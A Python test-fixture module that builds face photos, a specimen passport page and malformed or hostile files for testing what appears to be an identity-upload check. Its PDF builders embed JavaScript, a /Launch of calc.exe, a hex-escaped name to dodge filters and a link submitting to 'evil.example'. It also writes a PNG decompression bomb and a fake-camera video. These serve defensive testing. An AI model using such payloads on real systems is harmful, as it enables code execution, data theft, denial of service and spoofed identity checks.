"""Test images: real faces from images that installed packages ship, and files made by code.

astronaut.png (scikit-image, public domain) and grace_hopper.jpg (matplotlib) are
two different people. Variants of one photo stand in for a passport photo and a
selfie of the same person.
"""

import functools
import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import matplotlib
import numpy as np
import skimage
from PIL import Image, ImageDraw, ImageEnhance, ImageFilter, ImageFont
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

ASTRONAUT = Path(skimage.__file__).parent / "data" / "astronaut.png"
# 100 face crops of 25 x 25 px (grey, 0 to 1), then 100 crops with no face.
LFW_SUBSET = Path(skimage.__file__).parent / "data" / "lfw_subset.npy"
GRACE_HOPPER = Path(matplotlib.__file__).parent / "mpl-data" / "sample_data" / "grace_hopper.jpg"


def _open(path: Path) -> Image.Image:
    return Image.open(path).convert("RGB")


def encode(image: Image.Image, image_format: str = "JPEG", **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


def astronaut_passport() -> bytes:
    """The whole picture: one real face and, beside it, a face-like mission patch."""
    return encode(_open(ASTRONAUT), quality=85)


def _astronaut_face() -> Image.Image:
    """The astronaut's head and shoulders at a selfie's size (about 85 px between the eyes)."""
    return _open(ASTRONAUT).crop((100, 20, 400, 330)).resize((600, 620), Image.Resampling.LANCZOS)


def astronaut_selfie() -> bytes:
    """The same person as astronaut_passport, cropped, slightly rotated, darker and more compressed."""
    image = _astronaut_face().rotate(4, fillcolor=(120, 120, 120))
    return encode(ImageEnhance.Brightness(image).enhance(0.85), quality=60)


def dark_selfie() -> bytes:
    return encode(ImageEnhance.Brightness(_astronaut_face()).enhance(0.2), quality=85)


def blurred_selfie() -> bytes:
    return encode(_astronaut_face().filter(ImageFilter.GaussianBlur(3)), quality=85)


def tiny_face_selfie() -> bytes:
    """A large photo in which the face is small: about 20 px between the eyes."""
    canvas = Image.new("RGB", (900, 700), (170, 180, 190))
    canvas.paste(_open(ASTRONAUT).crop((100, 20, 400, 330)).resize((140, 145)), (380, 280))
    return encode(canvas, quality=90)


def hopper_selfie() -> bytes:
    return encode(_open(GRACE_HOPPER).crop((60, 40, 470, 520)), quality=80)


def hopper_passport() -> bytes:
    return encode(_open(GRACE_HOPPER), quality=85)


def two_faces() -> bytes:
    left = _open(ASTRONAUT).crop((100, 20, 400, 330)).resize((300, 310))
    right = _open(GRACE_HOPPER).crop((100, 80, 440, 400)).resize((300, 310))
    canvas = Image.new("RGB", (620, 330), (200, 200, 200))
    canvas.paste(left, (0, 10))
    canvas.paste(right, (320, 10))
    return encode(canvas, quality=90)


def no_face() -> bytes:
    """A smooth gradient: a valid photo with nothing like a face in it."""
    ramp = np.linspace(0, 255, 400, dtype=np.uint8)
    pixels = np.stack([np.tile(ramp, (300, 1)), np.tile(ramp[::-1], (300, 1)), np.full((300, 400), 90, np.uint8)], -1)
    return encode(Image.fromarray(pixels), quality=90)


def turned(image_bytes: bytes, degrees: int) -> bytes:
    """The photo turned anticlockwise by `degrees`, with no EXIF to say so (a page photographed sideways)."""
    return encode(Image.open(io.BytesIO(image_bytes)).convert("RGB").rotate(degrees, expand=True), quality=90)


def portrait(person: str = "astronaut") -> Image.Image:
    """Head and shoulders, as printed on a passport."""
    if person == "astronaut":
        return _open(ASTRONAUT).crop((110, 10, 390, 370))
    return _open(GRACE_HOPPER).crop((90, 40, 450, 500))


_PAGE = (222, 230, 218)


def page(person: str = "astronaut", *, ghost: bool = False, second: str | None = None) -> Image.Image:
    """A passport photo page, 1,250 x 880 px: portrait, printed details, two machine-readable lines.

    `ghost` adds the secondary portrait many passports print: smaller, faded to 40%.
    `second` prints another person's portrait in full contrast beside the details.
    """
    canvas = Image.new("RGB", (1250, 880), _PAGE)
    draw = ImageDraw.Draw(canvas)
    for y in range(0, 880, 22):
        draw.line([(0, y), (1250, y + 40)], fill=(210, 220, 208), width=2)
    face = portrait(person)
    canvas.paste(face.resize((340, 440), Image.Resampling.LANCZOS), (50, 120))
    label, value = ImageFont.load_default(size=20), ImageFont.load_default(size=30)
    details = [("Surname", "SPECIMEN"), ("Given names", "ANNA MARIA"), ("Nationality", "UTOPIAN"), ("Date of birth", "01 JAN 1980")]
    for row, (name, text) in enumerate(details):
        draw.text((430, 120 + row * 80), name, fill=(90, 90, 110), font=label)
        draw.text((430, 145 + row * 80), text, fill=(20, 20, 30), font=value)
    mrz = ImageFont.load_default(size=36)
    draw.text((40, 720), "P<UTOSPECIMEN<<ANNA<MARIA<<<<<<<<<<<<<<<<<<", fill=(10, 10, 10), font=mrz)
    draw.text((40, 780), "L898902C36UTO8001014F2501017<<<<<<<<<<<<<<06", fill=(10, 10, 10), font=mrz)
    if ghost:
        small = face.resize((150, 195), Image.Resampling.LANCZOS)
        canvas.paste(Image.blend(small, Image.new("RGB", small.size, _PAGE), 0.6), (1040, 420))
    if second:
        canvas.paste(portrait(second).resize((200, 260), Image.Resampling.LANCZOS), (980, 380))
    return canvas


def on_desk(image: Image.Image, *, size: tuple[int, int] = (4000, 3000), width: int = 1300) -> Image.Image:
    """The page photographed whole on a desk from a distance: a 12-megapixel photo, the page a third of it."""
    rows = np.random.default_rng(1).normal(150, 6, size=(size[1], 1, 1))
    wood = np.broadcast_to(rows + np.array([0, -40, -75]), (size[1], size[0], 3)).clip(0, 255).astype(np.uint8)
    canvas = Image.fromarray(wood)
    canvas.paste(image.resize((width, round(image.height * width / image.width)), Image.Resampling.LANCZOS), (1300, 1000))
    return canvas


def selfie_at_eye_distance(eyes: float, person: str = "astronaut") -> bytes:
    """A 640 x 800 selfie whose face has about `eyes` px between the eyes (the person's photo scaled)."""
    face, measured = (_astronaut_face(), 85.0) if person == "astronaut" else (_open(GRACE_HOPPER).crop((60, 40, 470, 520)), 85.0)
    ratio = eyes / measured
    small = face.resize((round(face.width * ratio), round(face.height * ratio)), Image.Resampling.LANCZOS)
    canvas = Image.new("RGB", (640, 800), (170, 180, 190))
    canvas.paste(small, ((640 - small.width) // 2, (800 - small.height) // 3))
    return encode(canvas, quality=90)


def lfw_faces(count: int) -> list[Image.Image]:
    """Faces from scikit-image's LFW subset (different people), scaled from 25 to 150 px."""
    crops = np.load(LFW_SUBSET)[:count]
    return [Image.fromarray((crop * 255).astype(np.uint8)).convert("RGB").resize((150, 150), Image.Resampling.LANCZOS) for crop in crops]


def png(image_bytes: bytes) -> bytes:
    return encode(Image.open(io.BytesIO(image_bytes)), "PNG")


@functools.cache
def pdf(change=None) -> bytes:
    """A one-page PDF written by pypdf; `change(writer)` may add to it first."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action(action: dict) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = _dictionary(action)

    return change


def _dictionary(entries: dict) -> DictionaryObject:
    return DictionaryObject({NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value) for key, value in entries.items()})


def pdf_with_javascript() -> bytes:
    return pdf(_open_action({"/S": "/JavaScript", "/JS": "app.alert('hello')"}))


def pdf_with_javascript_in_a_disguised_name() -> bytes:
    """/J#61vaScript is /JavaScript with one letter written as a hex escape, which PDF readers decode."""
    return pdf_with_javascript().replace(b"/S /JavaScript", b"/S /J#61vaScript")


def pdf_with_launch_action() -> bytes:
    return pdf(_open_action({"/S": "/Launch", "/F": "calc.exe"}))


def pdf_with_embedded_file() -> bytes:
    return pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ not really a program"))


def pdf_with_javascript_on_a_link() -> bytes:
    """A page whose link annotation runs JavaScript when clicked."""

    def change(writer: PdfWriter) -> None:
        annotation = _dictionary({"/Type": "/Annot", "/Subtype": "/Link"})
        annotation[NameObject("/Rect")] = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)])
        annotation[NameObject("/A")] = _dictionary({"/S": "/JavaScript", "/JS": "this.submitForm('https://evil.example')"})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])

    return pdf(change)


def text() -> bytes:
    return b"This is not a photo, whatever its name says.\n"


def truncated_jpeg() -> bytes:
    data = astronaut_passport()
    return data[: len(data) // 3]


def decompression_bomb(side: int = 50_000) -> bytes:
    """A valid PNG header claiming side x side pixels, with a tiny compressed body.

    Decoded, it would need gigabytes; the file is a few hundred bytes.
    """

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    body = zlib.compress(b"\x00" * (side // 8 + 1) * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def with_gps_and_rotation() -> bytes:
    """A JPEG whose EXIF says it was taken sideways, with a GPS position."""
    image = _open(ASTRONAUT).crop((100, 20, 400, 330)).rotate(90, expand=True)
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90 degrees clockwise to view
    exif[0x010F] = "Test camera maker"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0)})
    return encode(image, quality=90, exif=exif)


def broken_exif() -> bytes:
    """A JPEG whose EXIF block is malformed in a way that makes Pillow raise TypeError when rewriting it."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (1.0, 2.0, 3.0)}
    data = bytearray(encode(Image.new("RGB", (20, 20), "red"), exif=exif.tobytes()))
    data[68] = 0x91  # one byte of the GPS block, found by fuzzing
    return bytes(data)


def y4m_video(image_bytes: bytes, frames: int = 10) -> bytes:
    """A few frames of a still photo as a Y4M video, which Chromium can use as a fake camera."""
    image = Image.open(io.BytesIO(image_bytes)).convert("RGB")
    image = image.resize((image.width // 2 * 2, image.height // 2 * 2))
    y, cb, cr = (np.asarray(channel) for channel in image.convert("YCbCr").split())
    half = (image.width // 2, image.height // 2)
    cb = np.asarray(Image.fromarray(cb).resize(half))
    cr = np.asarray(Image.fromarray(cr).resize(half))
    frame = b"FRAME\n" + y.tobytes() + cb.tobytes() + cr.tobytes()
    return f"YUV4MPEG2 W{image.width} H{image.height} F10:1 Ip A1:1 C420jpeg\n".encode() + frame * frames


# Images of extreme shape and unusual kinds, which the upload must either accept or
# refuse with the field's own message (never an error page).


def strip(width: int, height: int) -> bytes:
    """A greyscale PNG of a hundred-odd bytes, for shapes no photo has (1 x 100,000 px)."""
    return encode(Image.new("L", (width, height), 128), "PNG")


def sixteen_bit_gradient() -> bytes:
    """A 16-bit greyscale PNG: a left-to-right gradient from black to white."""
    pixels = np.tile(np.linspace(0, 65535, 256).astype(np.uint16), (64, 1))
    return encode(Image.fromarray(pixels), "PNG")


def cmyk_jpeg() -> bytes:
    return encode(Image.new("CMYK", (64, 64), (0, 255, 255, 0)), "JPEG")


def palette_with_transparency() -> bytes:
    """A palette PNG whose colour 0 (red) is transparent, with an opaque blue square in the middle."""
    image = Image.new("P", (64, 64), 0)
    image.putpalette([255, 0, 0, 0, 0, 255])
    image.paste(1, (16, 16, 48, 48))
    return encode(image, "PNG", transparency=0)


def animated_png() -> bytes:
    """Two frames, red then blue."""
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "blue")]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)


def truncated_png() -> bytes:
    data = png(astronaut_selfie())
    return data[: len(data) // 3]
